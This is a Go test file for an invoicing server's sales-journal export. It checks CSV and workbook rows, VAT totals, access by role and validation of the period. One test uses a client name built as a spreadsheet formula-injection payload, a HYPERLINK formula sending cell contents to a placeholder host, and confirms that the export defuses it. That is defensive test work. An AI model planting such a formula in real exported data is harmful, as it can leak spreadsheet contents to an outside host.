package server_test

import (
	"bytes"
	"context"
	"encoding/json"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"

	"github.com/postprod/postprod/db"
	"github.com/postprod/postprod/internal/kernel/dates"
)

// journalFixture seeds March 2026 for an organisation whose sales account
// is its own (the others are the defaults): a deposit, an invoice at two
// rates, a partial credit note, a final invoice deducting the deposit; and
// around them what the journal leaves out (a draft, April's invoice).
func journalFixture(t *testing.T, fx *org, clientID string) {
	t.Helper()
	if _, err := fx.e.DB.NewInsert().Model(&db.InvoicingSettings{OrganisationID: uuid.MustParse(fx.ID), AccountSales: "706100",
		AccountVat: "445710", AccountClient: "411000", PaymentDays: 30, LatePenaltyRate: 1215, RecoveryIndemnity: 4000}).
		Exec(context.Background()); err != nil {
		t.Fatal(err)
	}
	fx.quoteVersion(fx.production("clientId", clientID), db.QuoteAccepted, someLines(fx))
	march := func(d int) dates.Date { return dates.Date{Year: 2026, Month: 3, Day: d} }
	spec := func(kind db.InvoiceKind, d int, n int64, lines ...billed) invoiceSpec {
		return invoiceSpec{clientID: clientID, kind: kind, issued: march(d), due: march(d).AddDays(30), year: 2026, number: n, lines: lines}
	}
	deposit := fx.invoice(spec(db.InvoiceDeposit, 2, 1, billed{2000, 30000}))
	mixed := fx.invoice(spec(db.InvoiceStandard, 5, 2, billed{2000, 100000}, billed{550, 10001}, billed{2000, 23456}))
	fx.creditNote(mixed.ID, march(20), 2026, 1, billed{2000, 10000})
	final := fx.invoice(spec(db.InvoiceFinal, 31, 3, billed{2000, 100000}))
	fx.deduct(final.ID, deposit.ID, deposit.Totals.TTC)
	fx.invoice(invoiceSpec{clientID: clientID, kind: db.InvoiceStandard, lines: []billed{{2000, 99900}}})
	fx.invoice(invoiceSpec{clientID: clientID, kind: db.InvoiceStandard, issued: dates.Date{Year: 2026, Month: 4, Day: 1},
		due: dates.Date{Year: 2026, Month: 5, Day: 1}, year: 2026, number: 4, lines: []billed{{2000, 88800}}})
}

// The journal of March: a line per document and rate, in date order, the
// accounts from the settings, credit notes and the deducted deposit
// negative, each line balanced, the sums those of the period.
func TestSalesJournalLines(t *testing.T) {
	e := newEmptyEnv(t)
	fx := e.newOrg("Journal Ventes")
	other := e.newOrg("Autre Journal")
	journalFixture(t, fx, fx.clientID)
	other.invoice(invoiceSpec{clientID: other.clientID, kind: db.InvoiceStandard, issued: dates.Date{Year: 2026, Month: 3, Day: 10},
		due: dates.Date{Year: 2026, Month: 4, Day: 9}, year: 2026, number: 1, lines: []billed{{2000, 4200}}})

	client := "Client Journal Ventes"
	want := [][]string{
		{"Date", "Journal", "Pièce", "Compte client", "Compte de vente", "Compte TVA", "Client", "Libellé", "HT", "TVA", "TTC"},
		{"02/03/2026", "VE", "F-2026-00001", "411000", "706100", "445710", client, "Facture d'acompte F-2026-00001, TVA 20 %", "300,00", "60,00", "360,00"},
		{"05/03/2026", "VE", "F-2026-00002", "411000", "706100", "445710", client, "Facture F-2026-00002, TVA 20 %", "1234,56", "246,91", "1481,47"},
		{"05/03/2026", "VE", "F-2026-00002", "411000", "706100", "445710", client, "Facture F-2026-00002, TVA 5,50 %", "100,01", "5,50", "105,51"},
		{"20/03/2026", "VE", "AV-2026-00001", "411000", "706100", "445710", client, "Avoir AV-2026-00001, TVA 20 %", "-100,00", "-20,00", "-120,00"},
		{"31/03/2026", "VE", "F-2026-00003", "411000", "706100", "445710", client, "Facture de solde F-2026-00003, TVA 20 %", "1000,00", "200,00", "1200,00"},
		{"31/03/2026", "VE", "F-2026-00003", "411000", "706100", "445710", client, "Déduction de l'acompte F-2026-00001, TVA 20 %", "-300,00", "-60,00", "-360,00"},
	}
	rows := downloadCSV(t, e, fx.as(db.RoleAccountant), "/documents/sales-journal/2026-03-01_2026-03-31.csv")
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d: %q", len(rows), len(want), rows)
	}
	var sums [3]int64
	for i := range want {
		if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d:\n got %q\nwant %q", i, rows[i], want[i])
		}
		if i > 0 {
			ht, vat, ttc := cents(t, rows[i][8]), cents(t, rows[i][9]), cents(t, rows[i][10])
			if ht+vat != ttc {
				t.Errorf("row %d does not balance: %q", i, rows[i])
			}
			sums[0], sums[1], sums[2] = sums[0]+ht, sums[1]+vat, sums[2]+ttc
		}
	}
	if sums != [3]int64{223457, 43241, 266698} {
		t.Errorf("sums HT, TVA, TTC %v", sums)
	}

	// The workbook holds the same lines: real dates, amounts as numbers.
	code, h, body := download(t, e, fx.as(db.RoleCoordinator), "/documents/sales-journal/2026-03-01_2026-03-31.xlsx")
	if code != 200 || h.Get("Content-Type") != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" ||
		h.Get("Content-Disposition") != `attachment; filename="journal-ventes-2026-03-01_2026-03-31.xlsx"` {
		t.Fatalf("xlsx: %d %q %q", code, h.Get("Content-Type"), h.Get("Content-Disposition"))
	}
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	const sheet = "Journal des ventes"
	xrows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil || len(xrows) != len(want) {
		t.Fatalf("xlsx rows %d (%v), want %d", len(xrows), err, len(want))
	}
	for i := 1; i < len(want); i++ {
		if xrows[i][2] != want[i][2] || xrows[i][6] != client || xrows[i][7] != want[i][7] {
			t.Errorf("xlsx row %d: %q", i, xrows[i])
		}
		for j, col := range []string{"I", "J", "K"} {
			raw, _ := f.GetCellValue(sheet, col+strconv.Itoa(i+1), excelize.Options{RawCellValue: true})
			v, err := strconv.ParseFloat(raw, 64)
			if w := float64(cents(t, want[i][8+j])) / 100; err != nil || v != w {
				t.Errorf("xlsx %s%d = %q, want the number %v", col, i+1, raw, w)
			}
		}
	}
	if v, _ := f.GetCellValue(sheet, "A2"); v != "02/03/2026" {
		t.Errorf("xlsx A2 shows %q, want a date", v)
	}

	// Another organisation's journal holds its own invoice alone.
	rows = downloadCSV(t, e, other.as(db.RoleAccountant), "/documents/sales-journal/2026-03-01_2026-03-31.csv")
	if len(rows) != 2 || rows[1][2] != "F-2026-00001" || rows[1][6] != "Client Autre Journal" || rows[1][4] != "706000" || rows[1][10] != "50,40" {
		t.Errorf("the other organisation's journal: %q", rows)
	}
	// An empty period has the headings alone.
	if rows := downloadCSV(t, e, fx.as(db.RoleAccountant), "/documents/sales-journal/2026-02-01_2026-02-28.csv"); len(rows) != 1 {
		t.Errorf("February: %q", rows)
	}
}

// cents reads "-1234,56".
func cents(t *testing.T, s string) int64 {
	t.Helper()
	f, err := strconv.ParseFloat(strings.Replace(s, ",", ".", 1), 64)
	if err != nil {
		t.Fatalf("not an amount: %q", s)
	}
	if f < 0 {
		return int64(f*100 - 0.5)
	}
	return int64(f*100 + 0.5)
}

// The staff export the journal; producers, technicians and rights holders
// are refused; a period must be well written, in order, and a year at most.
func TestSalesJournalAccessAndPeriod(t *testing.T) {
	e := newEmptyEnv(t)
	fx := e.newOrg("Journal Accès")
	for _, ext := range []string{".csv", ".xlsx"} {
		path := "/documents/sales-journal/2026-03-01_2026-03-31" + ext
		for _, c := range []struct {
			role db.Role
			want int
		}{
			{db.RoleAdmin, 200}, {db.RoleCoordinator, 200}, {db.RoleAccountant, 200}, {db.RoleIntegration, 200},
			{db.RoleProducer, 403}, {db.RoleTechnician, 403}, {db.RoleRightsHolder, 403},
		} {
			if code, _, _ := download(t, e, fx.as(c.role), path); code != c.want {
				t.Errorf("%s as %s: %d, want %d", path, c.role, code, c.want)
			}
		}
		if code, _, _ := download(t, e, "", path); code != 401 {
			t.Errorf("%s anonymous: %d", path, code)
		}
	}
	for _, c := range []struct {
		period string
		status int
		field  string
	}{
		{"2026-03-31_2026-03-01", 400, "to"},
		{"2026-01-01_2027-01-02", 400, "to"}, // 367 days
		{"2024-01-01_2024-12-31", 200, ""},   // a leap year: 366 days
		{"2026-03-01_2026-03-01", 200, ""},
		{"2026-03", 400, "period"},
		{"2026-02-30_2026-03-31", 400, "period"},
		{"2026-03-01_", 400, "period"},
	} {
		code, _, body := download(t, e, fx.as(db.RoleAccountant), "/documents/sales-journal/"+c.period+".csv")
		if code != c.status {
			t.Errorf("%s: %d, want %d: %s", c.period, code, c.status, body)
			continue
		}
		if c.field != "" {
			var out struct {
				Errors []struct {
					Message    string
					Extensions struct{ Code, Field string }
				}
			}
			if err := json.Unmarshal(body, &out); err != nil || len(out.Errors) != 1 || out.Errors[0].Extensions.Code != "VALIDATION" ||
				out.Errors[0].Extensions.Field != c.field || out.Errors[0].Message == "" {
				t.Errorf("%s: %s", c.period, body)
			}
		}
	}
}

// A client's name that a spreadsheet would run as a formula comes out of
// the journal as text, in the CSV (an apostrophe) and in the workbook (a
// string cell, no formula); the amounts stay numbers.
func TestSalesJournalFormulas(t *testing.T) {
	e := newEmptyEnv(t)
	fx := e.newOrg("Journal Formules")
	const name = `=HYPERLINK("http://x/?"&A1,"y")`
	journalFixture(t, fx, fx.client("name", name, "legalName", ""))
	rows := downloadCSV(t, e, fx.as(db.RoleAccountant), "/documents/sales-journal/2026-03-01_2026-03-31.csv")
	if len(rows) != 7 {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows[1:] {
		if row[6] != "'"+name {
			t.Errorf("client exported as %q", row[6])
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isDecimal(cell) {
				t.Errorf("a live formula in the journal: %q", cell)
			}
		}
		for _, amount := range row[8:11] {
			if !isDecimal(amount) {
				t.Errorf("an amount exported as text: %q", amount)
			}
		}
	}
	_, _, body := download(t, e, fx.as(db.RoleAccountant), "/documents/sales-journal/2026-03-01_2026-03-31.xlsx")
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i := 2; i <= 7; i++ {
		cell := "G" + strconv.Itoa(i)
		v, _ := f.GetCellValue("Journal des ventes", cell)
		formula, _ := f.GetCellFormula("Journal des ventes", cell)
		if v != name || formula != "" {
			t.Errorf("xlsx %s: %q, formula %q", cell, v, formula)
		}
	}
}
